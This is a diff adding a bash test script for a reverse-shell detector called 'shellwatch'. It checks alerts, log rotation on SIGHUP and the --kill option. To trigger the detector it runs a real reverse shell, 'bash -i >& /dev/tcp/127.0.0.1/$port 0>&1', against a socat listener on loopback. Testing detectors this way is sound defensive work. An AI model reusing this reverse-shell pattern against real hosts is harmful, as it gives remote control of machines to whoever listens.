@@ -1,0 +1,102 @@
+#!/usr/bin/env bash
+# run_live.sh: `shellwatch run` end to end on this machine: a real bash reverse shell on loopback
+# gives exactly one JSON alert with the shell's pid, the listener as peer and the signals that
+# fired; plain commands give none; --output appends and SIGHUP reopens it; --kill ends the shell.
+. "$(dirname "$0")/../lib.sh"
+require_live "shellwatch run"
+
+RUN_PID=
+# run_start OUT [OPTIONS...]: start `run --json` writing alerts to OUT; returns once ready.
+run_start() {
+	local out=$1; shift
+	: >"$SW_TMP/run.err"
+	"$SW_BIN" run --json -o "$out" "$@" >"$SW_TMP/run.out" 2>"$SW_TMP/run.err" &
+	RUN_PID=$!
+	wait_until 20 grep -q '^shellwatch run: ready' "$SW_TMP/run.err"
+}
+run_stop() {
+	kill -TERM "$RUN_PID" 2>/dev/null
+	wait "$RUN_PID"
+}
+# alerts_for FILE PORT: the alerts whose destination.port is PORT, one JSON per line.
+alerts_for() { grep -F "\"destination.port\":$2," "$1" 2>/dev/null; }
+has_alert_for() { alerts_for "$@" >/dev/null; }
+# field JSON KEY: one top-level field of a JSON line.
+field() { python3 -c 'import json,sys; v=json.loads(sys.argv[1]).get(sys.argv[2]); print(",".join(v) if isinstance(v,list) else v)' "$1" "$2"; }
+
+# reverse_shell PORT [CMD]: a listener that sends CMD (default: a marker and exit), then the shell.
+reverse_shell() {
+	local port=$1 cmd=${2:-'echo remote-$((6*7)); exit'}
+	printf '%s\n' "$cmd" | socat -t 5 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr STDIO \
+		>"$SW_TMP/listener.$port" 2>&1 &
+	LISTENER_PID=$!
+	wait_until 10 listening "$port" || return 1
+	bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
+	SHELL_PID=$!
+}
+
+out=$SW_TMP/alerts.json
+if ! run_start "$out"; then
+	tap_fail "run attaches" "$(cat "$SW_TMP/run.err")"
+	exit 0
+fi
+tap_ok "run attaches and says ready"
+
+# Benign activity first: pipelines, redirections, a local connection that is not on stdio.
+# (Other tests may run shells at the same time: only alerts carrying this run's marker count.)
+mark=benign-$$-$RANDOM
+bash -c "ls -la /usr/bin | grep -c x > /dev/null 2>&1; echo $mark | tr a-z A-Z >/dev/null"
+printf 'import socket, sys\ns = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(("127.0.0.1", 9))\nexcept OSError:\n    pass\n' >"$SW_TMP/client.py"
+python3 "$SW_TMP/client.py" "$mark"
+
+port=$(free_port)
+reverse_shell "$port"
+check "the shell ran the listener's command" wait_until 20 grep -q remote-42 "$SW_TMP/listener.$port"
+check "an alert for the reverse shell within 2 s" wait_until 2 has_alert_for "$out" "$port"
+wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true
+a=$(alerts_for "$out" "$port" | head -1)
+n=$(alerts_for "$out" "$port" | wc -l)
+check "exactly one alert for one shell" test "$n" -eq 1
+pid=$(field "$a" process.pid)
+ppid=$(field "$a" process.parent.pid)
+check "alert names the shell's process (pid $pid, parent $ppid, bash -c $SHELL_PID)" \
+	test "$pid" = "$SHELL_PID" -o "$ppid" = "$SHELL_PID"
+check "alert has the listener as peer" test "$(field "$a" destination.ip)" = 127.0.0.1
+check "alert's command line is the shell's" test "$(field "$a" process.command_line)" = "bash -i"
+sigs=$(field "$a" shellwatch.signals)
+check "alert lists the rule and the stdio-socket fact ($sigs)" \
+	bash -c "[[ '$sigs' == *rule* && '$sigs' == *stdio-socket* ]]"
+check "alert has ECS fields" bash -c "[[ '$(field "$a" event.kind)' == alert && -n '$(field "$a" host.name)' ]]"
+others=$(grep -cF "$mark" "$out")
+check "no alert for the benign commands" test "$others" -eq 0
+check "nothing but the banner on stdout with --output" test ! -s "$SW_TMP/run.out"
+
+# Log rotation: move the file away, SIGHUP, the next alert goes to a new file at the old path.
+mv "$out" "$out.1"
+kill -HUP "$RUN_PID"
+wait_until 5 test -e "$out"
+check "SIGHUP reopens --output (new file at the old path)" test -e "$out"
+port2=$(free_port)
+reverse_shell "$port2"
+check "after rotation the next alert lands in the new file" wait_until 5 has_alert_for "$out" "$port2"
+wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true
+run_stop
+check "run exits 0 on SIGTERM" test $? -eq 0
+check "run prints its counts on stderr" grep -qE '^shellwatch run: [0-9]+ events, .* dropped;' "$SW_TMP/run.err"
+
+# --kill: the shell is killed; a command that takes a second never reports back.
+out3=$SW_TMP/kill.json
+if run_start "$out3" --kill; then
+	port3=$(free_port)
+	reverse_shell "$port3" 'sleep 1; echo survived-$((6*7)); exit'
+	check "--kill: alert within 2 s" wait_until 2 has_alert_for "$out3" "$port3"
+	a=$(alerts_for "$out3" "$port3" | head -1)
+	k=$(field "$a" shellwatch.killed_ms)
+	check "--kill: the alert says the shell was killed ($k ms after its exec)" test -n "$k" -a "$k" != None
+	check "--kill: the shell is gone" wait_until 5 pid_gone "$(field "$a" process.pid)"
+	wait_until 10 pid_gone "$LISTENER_PID"
+	check "--kill: the shell never ran the listener's command" bash -c "! grep -q survived-42 '$SW_TMP/listener.$port3'"
+	run_stop
+else
+	tap_fail "run --kill attaches" "$(cat "$SW_TMP/run.err")"
+fi
